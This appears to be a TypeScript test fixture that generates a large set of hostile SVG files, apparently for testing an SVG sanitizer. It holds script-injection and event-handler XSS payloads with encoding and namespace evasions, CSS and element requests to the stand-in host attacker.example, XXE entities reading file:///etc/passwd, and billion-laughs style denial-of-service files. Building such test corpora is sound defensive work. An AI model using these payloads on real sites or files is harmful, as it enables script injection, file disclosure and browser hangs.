/** An SVG that would run something, or ask for something, if it were opened as it is. */
export interface Hostile {
  name: string;
  bytes: Uint8Array;
  /** Would hang a browser that drew it as it is. */
  heavy: boolean;
}

/** Leaves its mark on the document, for a test to find. */
const run = `document.documentElement.setAttribute('data-ran','1')`;
/** Nobody's address: that it is asked for is what counts. */
export const elsewhere = 'https://attacker.example/';
const spaces = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const html = 'http://www.w3.org/1999/xhtml';

function svg(inside: string, root = '', head = ''): string {
  return `${head}<svg ${spaces} width="100" height="100" ${root}>${inside}<rect width="9" height="9"/></svg>`;
}

function asUtf16(text: string, isLittle: boolean, marked: boolean): Uint8Array {
  const bytes = Buffer.from(`${marked ? '\uFEFF' : ''}${text}`, 'utf16le');
  return Uint8Array.from(isLittle ? bytes : bytes.swap16());
}

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);
const script = `<script>${run}</script>`;
const inHtml = (element: string, attributes: string, inside = ''): string => `<${element} xmlns="${html}" ${attributes}>${inside}</${element}>`;

const scripts: readonly string[] = [
  script,
  `<script><![CDATA[${run}]]></script>`,
  `<script type="module">${run}</script>`,
  `<script href="data:text/javascript,${run}"/>`,
  `<script xlink:href="data:text/javascript,${run}"/>`,
  `<script href="${elsewhere}a.js"/>`,
  `<script xlink:href="//attacker.example/a.js"/>`,
  `<defs>${script}</defs>`, `<symbol id="s">${script}</symbol>`, `<g><g><g>${script}</g></g></g>`, `<title>${script}</title>`, `<desc>${script}</desc>`,
  `<metadata>${script}</metadata>`, `<text>${script}</text>`, `<switch>${script}</switch>`, `<style>${script}</style>`, `<a href="#a">${script}</a>`,
  `<foreignObject>${inHtml('script', '', run)}</foreignObject>`,
  inHtml('script', '', run), inHtml('script', `src="${elsewhere}a.js"`), inHtml('body', `onload="${run}"`),
  `<h:script xmlns:h="${html}">${run}</h:script>`, `<h.h:script xmlns:h.h="${html}">${run}</h.h:script>`, `<é:script xmlns:é="${html}">${run}</é:script>`,
  `<s:script xmlns:s="http://www.w3.org/2000/svg">${run}</s:script>`, `<s.v-g:script xmlns:s.v-g="http://www.w3.org/2000/svg">${run}</s.v-g:script>`,
  `<ñ·:script xmlns:ñ·="http://www.w3.org/2000/svg">${run}</ñ·:script>`, `<_:script xmlns:_="http://www.w3.org/2000/svg">${run}</_:script>`,
  `<x xmlns="urn:x"><script xmlns="http://www.w3.org/2000/svg">${run}</script></x>`,
  `<s:script xmlns:s="http://www.w3.org/2000/&#115;vg">${run}</s:script>`,
  `<?a <!-- ?>${script}<?b --> ?>`, `<?a <![CDATA[ ?>${script}<?b ]]> ?>`, `<![CDATA[<!--]]>${script}<![CDATA[-->]]>`, `<!-- a --><?x ?>${script}<!-- -->`,
  `<desc><![CDATA[<!--]]></desc>${script}<desc>--&gt;</desc>`, `<g title="&lt;!--"/>${script}<g title="-->"/>`,
  `<script\n>${run}</script\n>`, `<script\t x="/>">${run}</script>`, `<script x='>' >${run}</script>`,
];

const eventNames = ['onload', 'onbegin', 'onclick', 'onmouseover', 'onmouseenter', 'onpointerover', 'onfocus', 'onfocusin', 'onactivate', 'onerror', 'onresize', 'onscroll', 'onzoom', 'onunload', 'onwheel', 'oncopy', 'onanimationstart', 'ontransitionend', 'onkeydown', 'onauxclick'];
const handlers: readonly string[] = [
  ...eventNames.map((event) => svg('', `${event}="${run}"`)),
  ...['onload', 'onclick', 'onmouseover', 'onfocus'].map((event) => svg(`<rect tabindex="0" ${event}="${run}" width="100" height="100"/>`)),
  svg(`<image href="data:image/png;base64,AAAA" onerror="${run}"/>`), svg(`<image xlink:href="none:" onerror="${run}"/>`),
  svg(`<animate attributeName="x" begin="0s" dur="1s" onbegin="${run}"/>`), svg(`<set attributeName="x" to="1" onbegin="${run}"/>`),
  svg(`<animate attributeName="x" dur="0.1s" repeatCount="3" onrepeat="${run}" onend="${run}"/>`), svg(`<animateTransform attributeName="transform" begin="0s" dur="1s" onbegin="${run}"/>`),
  svg(`<style onload="${run}">rect{fill:red}</style>`), svg(`<use href="#a" onload="${run}"/>`), svg(`<svg onload="${run}"/>`), svg(`<g onload="${run}"/>`),
  svg('', `onload = '${run.replaceAll("'", '&apos;')}'`), svg('', `\nonload\n=\n"${run}"`), svg('', `onload="&#100;ocument.documentElement.setAttribute(&#39;data-ran&#39;,1)"`),
  svg(`<a.b:svg xmlns:a.b="http://www.w3.org/2000/svg" onload="${run}"/>`), svg(inHtml('img', `src="none:" onerror="${run}"`)), svg(inHtml('details', `open="" ontoggle="${run}"`)),
  svg(inHtml('input', `autofocus="" onfocus="${run}"`)), svg(inHtml('video', '', `<source xmlns="${html}" onerror="${run}"/>`)), svg(inHtml('style', `onload="${run}"`, 'a{}')),
];

const codes = ['javascript:', 'JaVaScRiPt:', ' javascript:', 'java&#9;script:', 'java&#x0A;script:', 'java&#13;script:', '&#106;avascript:', '&#x6A;&#97;vascript:', 'javascript&#58;', '&#32;&#9;javascript:', 'vbscript:', 'data:text/html,<script xmlns="x">'.replaceAll('<', '&lt;').replaceAll('"', '&quot;')];
const links: readonly string[] = codes.flatMap((code) => [
  `<a href="${code}${run}"><rect width="100" height="100"/></a>`,
  `<a xlink:href="${code}${run}"><text y="50" font-size="60">press</text></a>`,
]).concat(
  `<a><set attributeName="href" to="javascript:${run}"/><rect width="100" height="100"/></a>`,
  `<a><animate attributeName="xlink:href" values="javascript:${run}"/><rect width="100" height="100"/></a>`,
  `<a href="#a"><animate attributeName="href" from="javascript:${run}" to="javascript:${run}" begin="0s" dur="9s"/><rect width="100" height="100"/></a>`,
  `<use href="data:image/svg+xml,${encodeURIComponent(svg(script, 'id="a"'))}#a"/>`, `<animate href="#x" attributeName="href" to="javascript:${run}"/><a id="x"><rect width="100" height="100"/></a>`,
  inHtml('iframe', `src="javascript:parent.${run}"`), inHtml('iframe', `srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"`), inHtml('object', `data="javascript:${run}"`), inHtml('embed', `src="javascript:${run}"`), inHtml('form', `action="javascript:${run}"`, inHtml('button', '', 'press')),
);

const address = `${elsewhere}a.png`;
const requests: readonly string[] = [
  ...['href', 'xlink:href'].flatMap((href) => [
    ...[address, '//attacker.example/a.png', ' https://attacker.example/a.png', 'https:&#47;/attacker.example/a.png', 'ht&#10;tps://attacker.example/a.png'].map((to) => `<image ${href}="${to}" width="9" height="9"/>`),
    `<use ${href}="${elsewhere}a.svg#a"/>`, `<feImage ${href}="${address}"/>`, `<filter id="f"><feImage ${href}="${address}"/></filter><rect filter="url(#f)" width="50" height="50"/>`,
    `<linearGradient id="g" ${href}="${elsewhere}a.svg#a"/><rect fill="url(#g)" width="50" height="50"/>`, `<pattern id="p" ${href}="${elsewhere}a.svg#a"/>`,
    `<text><textPath ${href}="${elsewhere}a.svg#a">a</textPath></text>`, `<text><tref ${href}="${elsewhere}a.svg#a"/></text>`, `<cursor ${href}="${address}"/>`, `<color-profile ${href}="${elsewhere}a.icc"/>`,
    `<image ${href}="#a"><set attributeName="${href}" to="${address}"/></image>`, `<image width="9" height="9"><animate attributeName="${href}" values="${address}" begin="0s" dur="9s"/></image>`,
    `<image width="9" height="9" ${href}="data:image/svg+xml;base64,${Buffer.from(svg(`<image href="${address}"/>${script}`)).toString('base64')}"/>`,
  ]),
  ...['fill', 'stroke', 'filter', 'mask', 'clip-path', 'marker-start', 'cursor', 'background', 'background-image', 'list-style-image', 'border-image', 'mask-image', '-webkit-mask-image', 'shape-outside', 'offset-path', 'content'].flatMap((property) => [
    `<rect style="${property}:url(${address}#a)" width="50" height="50"/>`,
    `<rect ${property}="url(${elsewhere}a.svg#a)" width="50" height="50"/>`,
  ]),
];

const everywhere = 'svg,rect,*{';
const sheets: readonly string[] = [
  `@import "${elsewhere}a.css";`, `@import url(${elsewhere}a.css);`, `@\\69mport "${elsewhere}a.css";`, `@\\000069 mport url("${elsewhere}a.css");`, `@IMPORT '${elsewhere}a.css';`, `@import/**/"${elsewhere}a.css";`, `<!-- @import "${elsewhere}a.css"; -->`,
  `@charset "utf-8";@import "${elsewhere}a.css";`, `@layer a;@import "${elsewhere}a.css" layer(a);`, `/* */@import "${elsewhere}a.css";`, `/* } */ @import "${elsewhere}a.css";`,
  `@font-face{font-family:a;src:url(${elsewhere}a.woff)}text{font-family:a}`, `@font-face{font-family:a;src:u\\72l(${elsewhere}a.woff)}text{font-family:a}`,
  ...[`url(${address})`, `URL(${address})`, `u\\72l(${address})`, `\\75rl(${address})`, `\\000075\\000072\\00006c(${address})`, `url( "${address}" )`, `url('${address}')`, `url(\\68ttps://attacker.example/a.png)`, `image-set("${address}" 1x)`, `image-set(url(${address}) 1x)`,
    `-webkit-image-set(url(${address}) 1x)`, `\\69mage-set("${address}" 1x)`, `cross-fade(url(${address}),url(${address}),50%)`, `-webkit-cross-fade(url(${address}),url(${address}),50%)`, `src("${address}")`, `image("${address}")`, `url(#a),url(${address})`, `url(//attacker.example/a.png)`, `url(#a)url(${address})`]
    .map((value) => `${everywhere}background:${value};background-image:${value};mask-image:${value};filter:${value};fill:${value}}`),
  `${everywhere}--a:url(${address});background-image:var(--a)}`, `@media all{${everywhere}background-image:url(${address})}}`, `@supports (display:block){${everywhere}background-image:url(${address})}}`, `@keyframes a{from{background-image:url(${address})}to{}}svg{animation:a 1s}`,
  `svg{background-image:url(${address}`, `svg::before{content:url(${address});display:block}`, `svg:root{background-image:url(${address})}`, `svg{x:"}";background-image:url(${address})}`, `svg{font-family:"\\"";background-image:url(${address});x:"}`, `svg{font-family:'\\';background-image:url(${address});x:'}`,
  `svg{/*;*/background-image:/**/url(${address})}`, `svg{background-image:url(/**/${address})}`, `@namespace url(${elsewhere});svg{background-image:url(${address})}`,
];

const pages: readonly string[] = [
  inHtml('meta', `http-equiv="refresh" content="0;url=${elsewhere}"`), `<h:meta xmlns:h="${html}" http-equiv="refresh" content="0;url=${elsewhere}"/>`, `<m.m:meta xmlns:m.m="${html}" http-equiv="refresh" content="0;url=${elsewhere}"/>`,
  inHtml('meta', `http-equiv="refresh" content="0;url=data:text/html,&lt;script&gt;1&lt;/script&gt;"`), inHtml('base', `href="${elsewhere}"`) + '<image href="a.png" width="9" height="9"/>',
  inHtml('img', `src="${address}"`), inHtml('img', `srcset="${address} 1x"`), inHtml('picture', '', inHtml('source', `srcset="${address}"`)), inHtml('iframe', `src="${elsewhere}"`), inHtml('object', `data="${elsewhere}"`), inHtml('embed', `src="${elsewhere}"`),
  inHtml('video', `src="${elsewhere}a.mp4" autoplay=""`), inHtml('video', `poster="${address}"`), inHtml('audio', `src="${elsewhere}a.mp3" autoplay=""`), inHtml('link', `rel="stylesheet" href="${elsewhere}a.css"`), inHtml('link', `rel="prefetch" href="${elsewhere}"`),
  inHtml('link', `rel="preload" as="image" href="${address}"`), inHtml('link', `rel="icon" href="${address}"`), inHtml('input', `type="image" src="${address}"`), inHtml('style', '', `@import "${elsewhere}a.css";`), inHtml('body', `background="${address}"`),
  inHtml('table', `background="${address}"`), `<foreignObject width="90" height="90">${inHtml('div', `style="background:url(${address})"`, 'a')}</foreignObject>`, `<foreignObject width="90" height="90">${inHtml('iframe', `src="${elsewhere}"`)}</foreignObject>`,
  `<s:foreignObject xmlns:s="http://www.w3.org/2000/svg" width="90" height="90">${inHtml('img', `src="${address}"`)}</s:foreignObject>`, `<iframe src="${elsewhere}"/>`, `<video href="${elsewhere}a.mp4"/>`, `<audio xlink:href="${elsewhere}a.mp3"/>`,
  `<g xml:base="${elsewhere}"><image href="a.png" width="9" height="9"/><rect fill="url(#a)" width="9" height="9"/></g>`, `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${elsewhere}a.svg"/>`, `<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:${run}"><mi>a</mi></math>`,
];

const heads: readonly string[] = [
  `<?xml-stylesheet href="${elsewhere}a.css"?>`, `<?xml-stylesheet type="text/css" href="data:text/css,@import '${elsewhere}a.css';"?>`, `<?xml-stylesheet type="text/xsl" href="${elsewhere}a.xsl"?>`, `<?xml version="1.0"?><?xml-stylesheet href="${elsewhere}a.css"?>`,
  `<!DOCTYPE svg SYSTEM "${elsewhere}a.dtd">`, `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "${elsewhere}a.dtd">`, `<!DOCTYPE svg [<!ENTITY % a SYSTEM "${elsewhere}a.dtd">%a;]>`, `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${run}">]>`,
];

const entity = (declared: string, inside: string): string => svg(inside, '', `<!DOCTYPE svg [${declared}]>`);
const entities: readonly string[] = [
  entity(`<!ENTITY a "&#60;script xmlns='http://www.w3.org/2000/svg'&#62;${run.replaceAll("'", '&#34;').replaceAll('"', '&#34;')}&#60;/script&#62;">`, '&a;'),
  entity(`<!ENTITY a SYSTEM "file:///etc/passwd">`, '<text y="20">&a;</text>'), entity(`<!ENTITY a SYSTEM "${elsewhere}">`, '<text y="20">&a;</text>'), entity('<!ENTITY js "javascript">', `<a href="&js;:${run}"><rect width="100" height="100"/></a>`),
  entity('<!ENTITY ns "http://www.w3.org/2000/svg">', `<x:script xmlns:x="&ns;">${run}</x:script>`),
];

const encodings: readonly [name: string, encode: (text: string) => Uint8Array][] = [
  ['UTF-16, little end first', (text) => asUtf16(text, true, true)], ['UTF-16, big end first', (text) => asUtf16(text, false, true)],
  ['UTF-16 that is only declared', (text) => asUtf16(`<?xml version="1.0" encoding="UTF-16"?>${text}`, true, false)], ['UTF-8 with a mark', (text) => utf8(`\uFEFF${text}`)],
  ['declared Latin-1', (text) => Uint8Array.from(Buffer.from(`<?xml version="1.0" encoding="ISO-8859-1"?>${text}`, 'latin1'))], ['declared UTF-7', (text) => utf8(`<?xml version="1.0" encoding="UTF-7"?>${text.replaceAll('<script', '+ADw-script')}`)],
  ['XML 1.1', (text) => utf8(`<?xml version="1.1"?>${text}`)], ['old Mac line ends', (text) => utf8(text.replaceAll('><', '>\r<'))],
];
const encoded = [svg(script), svg('', `onload="${run}"`), svg(`<image href="${address}" width="9" height="9"/>`)];

const repeated = (count: number): string => Array.from({ length: count }, (_, index) => `<g id="a${index + 1}">${`<use href="#a${index}"/>`.repeat(10)}</g>`).join('');
const heavy: readonly string[] = [
  svg(`<g id="a0"><path d="M0 0"/></g>${repeated(9)}`),
  svg(`<pattern id="a0" width="1" height="1"><path d="M0 0"/></pattern>${Array.from({ length: 9 }, (_, index) => `<pattern id="a${index + 1}" width="1" height="1">${`<rect fill="url(#a${index})" width="1" height="1"/>`.repeat(10)}</pattern>`).join('')}<rect fill="url(#a9)"/>`),
  svg(`<style>${Array.from({ length: 9 }, (_, index) => `.c${index + 1}{fill:url(#a${index})}`).join('')}</style>${Array.from({ length: 9 }, (_, index) => `<pattern id="a${index}" width="1" height="1">${`<rect class="c${index}" width="1" height="1"/>`.repeat(10)}</pattern>`).join('')}<rect class="c9"/>`),
  svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
  entity(`<!ENTITY a "ha">${'bcdefghij'.split('').map((name, index) => `<!ENTITY ${name} "${`&${'abcdefghi'[index]};`.repeat(10)}">`).join('')}`, '<text>&j;</text>'),
  svg(`${'<g>'.repeat(20_000)}${'</g>'.repeat(20_000)}`),
  svg(`<style>${Array.from({ length: 200 }, (_, index) => `.a{fill:url(#a${index})}`).join('')}</style>${'<g class="a"/>'.repeat(200)}`),
];

const named = (kind: string, texts: readonly string[], isHeavy = false): Hostile[] => texts.map((text, index) => ({ name: `${kind} ${index + 1}`, bytes: utf8(text), heavy: isHeavy }));

export const hostile: readonly Hostile[] = [
  ...named('script', scripts.map((inside) => svg(inside))),
  ...named('handler', handlers),
  ...named('link', links.map((inside) => svg(inside))),
  ...named('request', requests.map((inside) => svg(inside))),
  ...named('style sheet', sheets.map((sheet) => svg(`<style>${sheet.replaceAll('<', '&lt;')}</style><text y="20">a</text>`))),
  ...named('style sheet as it is', sheets.filter((sheet) => !sheet.includes('<')).map((sheet) => svg(`<style><![CDATA[${sheet}]]></style><text y="20">a</text>`))),
  ...named('element of a page', pages.map((inside) => svg(inside))),
  ...named('head', heads.map((head) => svg('', '', head))),
  ...named('entity', entities),
  ...encodings.flatMap(([name, encode]) => encoded.map((text, index) => ({ name: `${name} ${index + 1}`, bytes: encode(text), heavy: false }))),
  ...named('repetition', heavy, true),
];
